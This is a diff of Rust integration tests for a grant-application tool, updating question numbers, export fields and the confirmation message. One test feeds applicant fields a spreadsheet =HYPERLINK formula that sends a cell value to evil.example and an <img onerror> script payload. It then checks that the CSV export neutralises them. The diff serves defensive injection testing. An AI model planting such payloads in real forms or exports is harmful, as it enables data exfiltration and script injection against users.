@@ -33,9 +33,9 @@ fn apply_with(data: &std::path::Path, lang: &str, confirm_text: &str, answers: &
 #[test]
 fn an_application_in_two_languages_reaches_the_advisers_command_line() {
     let data = tempfile::tempdir().unwrap();
-    let en = apply(data.path(), "en", "[30] Change: Amount");
-    assert!(en.contains("BS-") && en.contains("submitted as"), "{en}");
-    let ru = apply(data.path(), "ru", "[30]");
+    let en = apply(data.path(), "en", "[37] Change: Amount");
+    assert!(en.contains("BS-") && en.contains("has been sent to an adviser for review"), "{en}");
+    let ru = apply(data.path(), "ru", "[37]");
     assert!(ru.contains("BS-"), "{ru}");
 
     let (code, list, _) = drafts(data.path(), &["list"]);
@@ -50,9 +50,12 @@ fn an_application_in_two_languages_reaches_the_advisers_command_line() {
     assert_eq!(code, Some(0));
     let v: serde_json::Value = serde_json::from_str(&json).unwrap();
     for slot in ["org_name", "org_number", "municipality", "applicant_region", "contact_name", "contact_email", "contact_phone", "partner_name",
-        "partner_country", "partner_region", "partner_contact", "project_title", "project_summary", "goals", "target_group", "activities",
-        "roles", "topic", "start_date", "end_date", "cost_travel", "cost_accommodation", "cost_interpretation", "cost_fees",
-        "cost_administration", "cost_other", "own_financing", "partner_financing", "amount_requested"] {
+        "partner_countries", "partner_region_se", "partner_contact", "project_title", "project_summary", "goals", "target_group", "activities",
+        "roles", "topics", "costs", "partner_role", "started", "applicant_type", "registered", "start_date", "end_date", "cost_travel",
+        "cost_accommodation", "cost_interpretation", "cost_fees", "cost_administration", "cost_other", "norwegian_costs", "volunteer_hours",
+        "own_financing", "partner_financing", "amount_requested",
+        // What the draft followed, as it was when it was sent.
+        "scheme", "scheme_version", "scheme_status", "verdict", "funding_share", "share_base", "volunteer_rate"] {
         assert!(v["answers"].get(slot).is_some(), "{slot} missing from the export");
     }
     assert_eq!(v["answers"]["activities"]["value"].as_array().unwrap().len(), 2);
@@ -111,9 +114,9 @@ fn an_application_in_two_languages_reaches_the_advisers_command_line() {
 fn what_applicants_type_is_inert_in_every_export() {
     let data = tempfile::tempdir().unwrap();
     let mut answers = APPLICATION.to_vec();
-    answers[1] = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")";
-    answers[12] = "<img src=x onerror=alert(1)> **Singing** [across](http://evil.example)";
-    apply_with(data.path(), "en", "[30]", &answers);
+    answers[common::APP_ORG_NAME] = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")";
+    answers[common::APP_TITLE] = "<img src=x onerror=alert(1)> **Singing** [across](http://evil.example)";
+    apply_with(data.path(), "en", "[37]", &answers);
     let (_, csv, _) = drafts(data.path(), &["export", "--all", "--format", "csv"]);
     let row = csv.lines().nth(1).unwrap();
     assert!(row.contains("\"'=HYPERLINK(\"\"http://evil.example"), "{row}");
